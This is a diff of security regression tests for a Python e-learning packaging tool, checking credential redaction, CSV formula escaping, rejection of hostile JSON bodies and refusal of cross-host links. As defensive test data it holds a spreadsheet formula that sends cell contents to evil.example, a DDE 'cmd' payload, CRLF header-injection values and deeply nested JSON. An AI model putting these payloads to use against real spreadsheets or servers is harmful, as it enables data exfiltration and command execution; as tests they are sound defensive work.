@@ -238,3 +238,217 @@ def test_script_schemes_are_read_as_browsers_read_urls():
     assert [script_scheme(u) for u in ("java\tscript:alert(1)", "\x01 JAVASCRIPT:x", "vbscript:x", "data:text/html,x",
                                         "index.html", "https://a.example/", "javascript")] == \
         ["javascript", "javascript", "vbscript", "data", None, None, None]
+
+
+# -- 3. credentials: never printed, never in a URL, never sent broken ---------------------------------
+
+import json  # noqa: E402
+import os  # noqa: E402
+import subprocess  # noqa: E402
+import sys  # noqa: E402
+
+from modpack.credentials import keep, redact  # noqa: E402
+from modpack.xapi.report import report_csv, self_paced_hours, LearnerHours  # noqa: E402
+from modpack.xapi.send import Lrs, SendError, credentials_from  # noqa: E402
+
+from .test_progress import scripted_lrs  # noqa: E402,F401 - the fixture: an LRS answering from a script
+
+SECRET = "c2VjcmV0UmFoYXNpYTEyMw=="
+
+
+def modpack_run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    clean = {k: v for k, v in os.environ.items() if not k.startswith("MODPACK_LRS")}
+    return subprocess.run([sys.executable, "-m", "modpack", *args], capture_output=True, text=True, timeout=120,
+                          env={**clean, "MODPACK_LANG": "en", **(env or {})})
+
+
+@pytest.mark.parametrize("auth", [f"Basic {SECRET}\r\nX-Injected: 1", f"Basic {SECRET}\n", f"Basic {SECRET}é",
+                                  f"Basic\x00{SECRET}"])
+def test_a_broken_authorization_value_is_refused_and_never_printed(tmp_path, scripted_lrs, auth):
+    endpoint, handler = scripted_lrs
+    statements = tmp_path / "s.jsonl"
+    statements.write_text('{"id": "x"}\n', encoding="utf-8")
+    if "\x00" in auth:  # an environment cannot hold a NUL; a credentials file can
+        (tmp_path / "kredensial.json").write_text(json.dumps({"auth": auth}), encoding="utf-8")
+        result = modpack_run("send", str(statements), "--lrs", endpoint, "--credentials",
+                             str(tmp_path / "kredensial.json"))
+    else:
+        result = modpack_run("send", str(statements), "--lrs", endpoint, env={"MODPACK_LRS_AUTH": auth})
+    assert result.returncode == 2 and "internal error" not in result.stderr
+    assert SECRET not in result.stdout + result.stderr and "Authorization value" in result.stderr
+    assert handler.seen == []  # nothing reached the LRS
+    with pytest.raises(SendError) as refused:
+        Lrs(endpoint, auth)
+    assert SECRET not in str(refused.value)
+
+
+def test_a_password_in_the_lrs_address_is_refused_and_kept_out_of_every_file(tmp_path):
+    statements = tmp_path / "s.jsonl"
+    statements.write_text('{"id": "x"}\n', encoding="utf-8")
+    address = "http://petugas:Rahasia-Dinsos-77@127.0.0.1:9/xAPI/"
+    for command in (["send", str(statements), "--lrs", address], ["preview", "samples/rujukan-terpadu", "--port", "0",
+                                                                 "--lrs", address]):
+        result = modpack_run(*command, env={"MODPACK_LRS_USERNAME": "u", "MODPACK_LRS_PASSWORD": "p"})
+        assert result.returncode == 2 and "user name or password" in result.stderr, result.stderr
+        assert "Rahasia-Dinsos-77" not in result.stdout + result.stderr
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["s.jsonl"]  # no checkpoint, no lock
+
+
+@pytest.mark.parametrize("content, reason", [
+    ('{"username": "petugas"}', 'needs "username" and "password"'),
+    ('{"username": "petugas", "password": 12345678}', 'needs "username" and "password"'),
+    ('{"username": "petugas", "password": ', "not valid JSON"),
+    ("Rahasia-Tanpa-Pengguna", "one line, username:password"),
+    ("pe:tugas:Rahasia-Dua\nbaris-kedua", "one line"),
+])
+def test_a_credentials_file_that_cannot_be_used_is_a_message_not_a_crash(tmp_path, content, reason):
+    file = tmp_path / "kredensial"
+    file.write_text(content, encoding="utf-8")
+    statements = tmp_path / "s.jsonl"
+    statements.write_text('{"id": "x"}\n', encoding="utf-8")
+    result = modpack_run("send", str(statements), "--lrs", "http://127.0.0.1:9/xAPI/", "--credentials", str(file))
+    assert result.returncode == 2 and reason in result.stderr and "internal error" not in result.stderr
+    assert "Rahasia" not in result.stdout + result.stderr
+
+
+def test_every_credential_read_is_hidden_from_any_message():
+    auth = credentials_from({"MODPACK_LRS_USERNAME": "petugas", "MODPACK_LRS_PASSWORD": "Sandi-Rahasia-9"})
+    token = auth.split()[1]
+    message = f"httpx: Illegal header value b'{auth}' (password Sandi-Rahasia-9)"
+    assert redact(message) == "httpx: Illegal header value b'[hidden]' (password [hidden])"
+    keep("Bearer eyJhbGciOi.J9")
+    assert "eyJhbGciOi" not in redact("sent Authorization: Bearer eyJhbGciOi.J9") and token not in redact(token)
+
+
+# -- 4. report: CSV cells escaped against formulas, the LRS's numbers validated ------------------------
+
+def statement_with_jp(number: int, jp, actor=None) -> dict:
+    return {"id": f"00000000-0000-4000-8000-{number:012d}",
+            "actor": actor if actor is not None else {"mbox": f"mailto:p{number}@example.id", "name": f"P{number}"},
+            "verb": {"id": "http://adlnet.gov/expapi/verbs/completed"},
+            "object": {"id": "https://pelatihan.example.go.id/xapi/modul-uji", "definition": {"type": "x/course"}},
+            "timestamp": "2026-05-01T10:00:00Z",
+            "context": {"extensions": {"https://pelatihan.example.go.id/xapi/extensions/jp": jp}}}
+
+
+def test_numbers_from_the_lrs_are_validated_per_statement(scripted_lrs):
+    endpoint, handler = scripted_lrs
+    page = {"statements": [statement_with_jp(1, 2), statement_with_jp(2, "1e309"), statement_with_jp(3, -4),
+                           statement_with_jp(4, True), statement_with_jp(5, {"jp": 1}), statement_with_jp(6, 1.5),
+                           statement_with_jp(7, 1, actor="nobody"), "not a statement"]}
+    text = json.dumps(page).replace('"1e309"', "1e309")  # a number too large for a float: infinity to Python
+    handler.script.append((200, {}, text.encode()))
+    hours: dict[str, LearnerHours] = {}
+    problems: list[str] = []
+    counted = self_paced_hours(Lrs(endpoint, "Basic eDp5"), ["https://pelatihan.example.go.id/xapi/"], 2026, hours,
+                               problems)
+    assert counted == 2 and {h.learner: h.self_paced for h in hours.values()} == {
+        "mailto:p1@example.id": 2.0, "mailto:p6@example.id": 1.5}
+    assert len(problems) == 6
+    assert any("000000000003" in p and "not a number of 0 or more" in p for p in problems)
+    assert any("000000000007" in p and "no actor" in p for p in problems)
+
+
+def test_report_cells_that_a_spreadsheet_would_run_are_escaped():
+    hours = {k: LearnerHours(k, name) for k, name in [
+        ("mailto:a@example.id", "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"), ("mailto:b@example.id", "+62812"),
+        ("mailto:c@example.id", "-1+1"), ("mailto:d@example.id", "@SUM(A1)"), ("mailto:e@example.id", "\tTab"),
+        ("=cmd|' /C calc'!A0", "Siti")]}
+    rows = list(__import__("csv").reader(io.StringIO(report_csv(hours, 20))))
+    names = [r[1] for r in rows[1:]]
+    assert all(n.startswith("'") for n in names if n != "Siti") and "Siti" in names
+    assert "'=cmd|' /C calc'!A0" in [r[0] for r in rows[1:]]
+    assert rows[1][2:5] == ["0", "0", "0"]  # numbers stay numbers
+
+
+# -- 5. preview: hostile bodies are 400s, a hostile store never breaks /tracked, files removed on exit --
+
+import signal  # noqa: E402
+import time  # noqa: E402
+
+from .test_preview import _request, cmi5_preview  # noqa: E402,F401 - a running cmi5 preview and its token
+
+DEEP = b"[" * 100_000 + b"]" * 100_000
+
+
+@pytest.mark.parametrize("body", [DEEP, b'{"result": {"score": {"scaled": NaN}}}', b'{"a": Infinity}'],
+                         ids=["deep", "nan", "infinity"])
+def test_bodies_python_reads_but_json_forbids_are_400(cmi5_preview, body):
+    base, state, auth = cmi5_preview
+    status, reply = _request(base, "/xapi/statements", body, "POST", auth)
+    assert status == 400 and b"error" in reply
+    assert _request(base, "/tracked")[0] == 200
+
+
+def test_a_statement_too_deep_to_read_in_the_store_never_breaks_tracked(cmi5_preview):
+    base, state, auth = cmi5_preview
+    good = {"actor": {"mbox": "mailto:a@b.id"}, "verb": {"id": "http://adlnet.gov/expapi/verbs/experienced"},
+            "object": {"id": "https://x.example/a"}}
+    assert _request(base, "/xapi/statements", json.dumps(good).encode(), "POST", auth)[0] == 200
+    with state.statements_file.open("ab") as handle:
+        handle.write(b'{"result": ' + DEEP + b"}\n" + b'{"x": "' + b"a" * (5 * 1024 * 1024) + b'"}\n')
+    status, page = _request(base, "/tracked")
+    assert status == 200 and b"experienced" in page
+    status, reply = _request(base, "/xapi/statements", None, "GET", auth)
+    assert status == 200 and len(json.loads(reply)["statements"]) == 1
+
+
+def test_the_preview_removes_its_temporary_folder_when_it_is_stopped_by_a_signal(tmp_path):
+    import tempfile
+
+    before = set(Path(tempfile.gettempdir()).glob("modpack-preview-*"))
+    process = subprocess.Popen([sys.executable, "-m", "modpack", "preview", "samples/rujukan-terpadu", "--port", "0",
+                                "--format", "scorm12"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+                               env={**os.environ, "MODPACK_LANG": "en"})
+    try:
+        assert "Preview on" in process.stdout.readline()
+        made = set(Path(tempfile.gettempdir()).glob("modpack-preview-*")) - before
+        assert len(made) == 1
+        process.send_signal(signal.SIGTERM)
+        process.wait(30)
+    finally:
+        if process.poll() is None:
+            process.kill()
+    assert not any(p.exists() for p in made)
+    assert "internal error" not in process.stderr.read()
+
+
+def test_the_report_never_follows_a_more_link_to_another_host(scripted_lrs):
+    endpoint, handler = scripted_lrs
+    handler.script.append((200, {}, json.dumps({"statements": [statement_with_jp(1, 2)],
+                                                "more": "https://elsewhere.example/xAPI/statements?p=2"}).encode()))
+    with pytest.raises(SendError, match=r"another host \(elsewhere.example\)"):
+        self_paced_hours(Lrs(endpoint, "Basic eDp5"), ["https://pelatihan.example.go.id/xapi/"], None, {})
+    assert len(handler.seen) == 1
+
+
+# -- 6. dependencies: floors that keep out known resource-exhaustion bugs; CI installs pinned versions -
+
+ROOT = Path(__file__).resolve().parent.parent
+# the releases before these have known bugs that hostile input reaches (see docs/dependencies.md)
+FLOORS = {"pyyaml": ("6.0.4", "6.0.3")}  # name: (the floor, the last release it keeps out)
+
+
+def test_dependency_floors_and_the_ci_constraints_agree():
+    import tomllib
+
+    from packaging.requirements import Requirement
+    from packaging.version import Version
+
+    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
+    requirements = [Requirement(r) for r in project["dependencies"] + project["optional-dependencies"]["test"]]
+    pins = {}
+    for line in (ROOT / ".ci" / "constraints.txt").read_text(encoding="utf-8").splitlines():
+        if line and not line.startswith("#"):
+            name, _, version = line.partition("==")
+            pins[name] = Version(version)
+    for requirement in requirements:
+        name = requirement.name.lower().replace("_", "-")
+        if name in FLOORS:  # the floor is in pyproject itself, so every install honours it
+            floor, below = FLOORS[name]
+            assert requirement.specifier.contains(floor) and not requirement.specifier.contains(below)
+        if requirement.marker is not None and not requirement.marker.evaluate():
+            continue
+        assert name in pins, f"{name} is not pinned: run python3 .ci/freeze.py"
+        assert requirement.specifier.contains(pins[name]), f"{name}=={pins[name]} is outside {requirement.specifier}"
+    assert "-c .ci/constraints.txt" in (ROOT / ".ci" / "run").read_text(encoding="utf-8")
